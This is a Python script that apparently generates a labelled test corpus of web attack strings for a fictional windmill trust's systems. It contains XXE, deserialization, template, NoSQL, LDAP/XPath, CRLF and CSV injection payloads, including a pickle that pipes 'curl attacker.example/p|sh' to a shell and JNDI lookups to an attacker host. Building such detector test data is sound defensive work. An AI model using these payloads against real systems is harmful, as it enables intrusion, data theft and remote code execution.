    ("xxe", "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE svg [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/mill/.env\">]><text>&f;</text></svg>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "a:1:{i:0;O:23:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}}"),
    ("deserialization", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"),
    ("deserialization", "gASVIAAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("deserialization", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("deserialization", "!!python/object/apply:os.system [\"id\"]"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exp\",\"autoCommit\":true}"),
    ("deserialization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/hash:Gem::SpecFetcher\ni: y"),
]
CODE_PREFIX = ["Dear volunteer, ", "Order note: ", "Newsletter intro: ", "Label text: ", "Batch remark: "]
CODE_POOL = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${jndi:ldap://attacker.example/cb}",
    "<%= `id` %>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{7*7}${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
]

NOSQLI = [
    ("operator", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("operator", "{\"email\": \"admin@windmill-trust.example\", \"password\": {\"$gt\": \"\"}}"),
    ("operator", "username[$ne]=x&password[$ne]=x"),
    ("operator", "password[$regex]=^m.*&username=head_miller"),
    ("operator", "{\"booking_ref\": {\"$regex\": \".*\"}}"),
    ("operator", "{\"sku\": {\"$in\": [\"WM-WHL-16\", {\"$gt\": \"\"}]}}"),
    ("operator", "{\"role\": {\"$nin\": [\"volunteer\"]}}"),
    ("operator", "{\"$or\": [{\"name\": \"Aled\"}, {\"is_admin\": true}]}"),
    ("operator", "{\"qty\": {\"$exists\": true}, \"price\": {\"$lt\": 0}}"),
    ("operator", "school[$ne]=Brook Lane Academy"),
    ("operator", "{\"token\": {\"$type\": 2}}"),
    ("where", "{\"$where\": \"this.password.length > 0\"}"),
    ("where", "'; return this.role == 'admin'; var x='"),
    ("where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where", "1; while(true){}"),
    ("where", "x' || '1'=='1"),
    ("where", "{\"$where\": \"function(){ return this.api_key.match(/^a/) }\"}"),
    ("where", "\"; return db.getCollectionNames(); var z=\""),
    ("aggregation", "[{\"$lookup\": {\"from\": \"staff\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"s\"}}]"),
    ("aggregation", "{\"$expr\": {\"$eq\": [{\"$substr\": [\"$password\", 0, 1]}, \"m\"]}}"),
    ("aggregation", "{\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}"),
    ("aggregation", "[{\"$out\": \"volunteers\"}]"),
    ("couch-es", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"phone\"]}"),
    ("couch-es", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime')\"}}}"),
    ("couch-es", "spelt OR _exists_:password_hash"),
    ("redis", "wholemeal\r\nFLUSHALL\r\n"),
    ("redis", "x\r\nCONFIG SET dir /var/www/mill/static\r\nSAVE\r\n"),
]

CRLF = [
    ("log-forging", "Batch 431 ok\n2024-06-14 10:02:11 INFO admin login succeeded user=head_miller ip=127.0.0.1"),
    ("log-forging", "wholemeal\r\n[2024-06-14 12:00:00] AUDIT stock adjust WM-WHL-16 +500 by=jenny"),
    ("log-forging", "Aled%0a2024-05-01T09:00:00Z level=info msg=\"password reset approved\" user=admin"),
    ("log-forging", "spelt%0d%0a127.0.0.1 - - [01/May/2024:09:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-forging", "Visitor note\u2028INFO refund issued order=WM-2291 amount=540.00"),
    ("log-forging", "search: rye\n2024-06-14 10:05:00 ERROR booking db unreachable -- staff must log in at https://attacker.example/mill-admin"),
    ("log-forging", "x%E5%98%8A%E5%98%8DWARN fire alarm disabled by volunteer"),
    ("header-injection", "en\r\nSet-Cookie: session=attacker123; Path=/; HttpOnly"),
    ("header-injection", "/schools%0d%0aSet-Cookie:%20admin=1"),
    ("header-injection", "/shop?lang=fr%0D%0ALocation:%20https://attacker.example/login"),
    ("header-injection", "thanks%0d%0aX-Forwarded-Host:%20attacker.example"),
    ("header-injection", "/booking\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-injection", "nl%0ALink:%20<https://attacker.example/x.css>;rel=stylesheet"),
    ("header-injection", "/photos%E5%98%8D%E5%98%8ASet-Cookie:%20a=b"),
    ("header-injection", "/%23%0d%0aRefresh:%200;url=https://attacker.example/"),
    ("response-splitting", "/en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("response-splitting", "fr%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Mill closed, pay here</h1>"),
    ("response-splitting", "x%0d%0a%0d%0a<html><body><form action=https://attacker.example/pay>"),
    ("response-splitting", "GET /schools HTTP/1.1\r\nHost: internal\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost"),
    ("mail-header", "jo@example.org\r\nBcc: list@attacker.example"),
    ("mail-header", "Order query%0ACc:%20everyone@attacker.example%0ASubject:%20Invoice%20overdue"),
    ("mail-header", "Mrs D'Arcy\nTo: trustees@windmill-trust.example\nSubject: Urgent bank details change"),
    ("mail-header", "visitor@example.org\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/donate>Donate</a>"),
    ("mail-header", "Booking SV-0442\r\nReply-To: finance@attacker.example"),
    ("mail-header", "a@example.org%0d%0aBcc:%20x@attacker.example,y@attacker.example"),
    ("csv-row", "Tea towel\",7.50\nWM-FAKE-1,Refund,-500,=HYPERLINK(\"https://attacker.example\")"),
    ("csv-row", "WM-OAT-1,Oatmeal 1kg,30,2.80\r\nADMIN-OVERRIDE,Stock write-off,-999,0.00"),
    ("csv-row", "Margaret\nSat 4 May,shop,Mallory,10:00-13:00,admin"),
    ("csv-row", "Josiah Pyke\";\"1860\"\r\n\"=cmd|'/C calc'!A0\";\"x"),
    ("csv-row", "Honey 300g\r\nGIFT-25,Gift voucher £25,999,0.01"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "aled)(|(memberOf=cn=admins,dc=windmill,dc=example)"),
    ("ldap", "*)(objectClass=*"),
    ("ldap", "head_miller)(&)"),
    ("ldap", "x*)(|(userPassword=*))"),
    ("ldap", "priya)(!(cn=nobody)"),
    ("ldap", "*)(mail=*@windmill-trust.example))(%00"),
    ("ldap", "admin)(|(description=*"),
    ("ldap", "%2A%29%28uid%3D%2A"),
    ("ldap", "volunteer*)(telephoneNumber=*"),
    ("xpath", "' or '1'='1"),
    ("xpath", "x' or name()='password' or 'a'='b"),
    ("xpath", "']|//volunteer/password|//*['"),
    ("xpath", "WM-2291' or count(/orders/order)>0 or '"),
    ("xpath", "1' and substring(//staff[1]/pin,1,1)='4"),
    ("xpath", "') or true() or ('"),
    ("xpath", "spelt\" or string-length(//user[role='admin']/password)>5 or \""),
    ("xpath", "x' or doc('http://attacker.example/x.xml') or '"),
    ("xpath", "Aled' or contains(//member/email,'@') and '1'='1"),
    ("xpath", "*]/parent::*/child::*[position()=1]|a['"),
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def build():
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    out = []
    literal_counts = {}

    def add_lits(cat, items):
        for cls, v in items:
            out.append((cat, cls, v))
        literal_counts[cat] = len(items)

    def add_enc(cat, cls_map, pool, n):
        picks = rng.sample(pool, n)
        for p in picks:
            out.append((cat, cls_map + "+urlencode", urlencode_all(p)))

    def add_join(cat, cls, prefixes, pool, n):
        made = set()
        while len(made) < n:
            v = rng.choice(prefixes) + rng.choice(pool)
            if v in made:
                continue
            made.add(v)
            out.append((cat, cls, v))

    add_lits("sqli", SQLI)
    add_enc("sqli", "mixed", SQLI_ENC_POOL, 8)
    add_lits("xss", XSS)
    add_join("xss", "prefixed", XSS_PREFIX, XSS_POOL, 8)
    add_lits("cmdi", CMDI)
    add_join("cmdi", "prefixed", CMDI_PREFIX, CMDI_POOL, 8)
    add_lits("traversal", TRAVERSAL)
    add_enc("traversal", "dotdot", TRAV_ENC_POOL, 6)
    add_lits("ssrf", SSRF)
    add_lits("code", CODE)
    add_join("code", "prefixed", CODE_PREFIX, CODE_POOL, 4)
    add_lits("nosqli", NOSQLI)
    add_lits("crlf", CRLF)
    add_lits("ldap-xpath", LDAP_XPATH)

    seen = set()
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(out, 1):
            if v in seen:
                raise SystemExit("duplicate attack: %r" % v)
            if v in benign:
                raise SystemExit("attack equals benign: %r" % v)
            if not (1 <= len(v) <= 2000):
                raise SystemExit("bad length: %r" % v)
            for ch in v:
                if ord(ch) < 32 and ch not in "\n\r\t":
                    raise SystemExit("raw control char in %r" % v)
            seen.add(v)
            obj = {"id": "hajn-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    counts = {}
    for cat, _, _ in out:
        counts[cat] = counts.get(cat, 0) + 1
    for cat in counts:
        print(cat, counts[cat], "total,", literal_counts[cat], "literals")
    print("total", len(out), "literals", sum(literal_counts.values()))


if __name__ == "__main__":
    build()
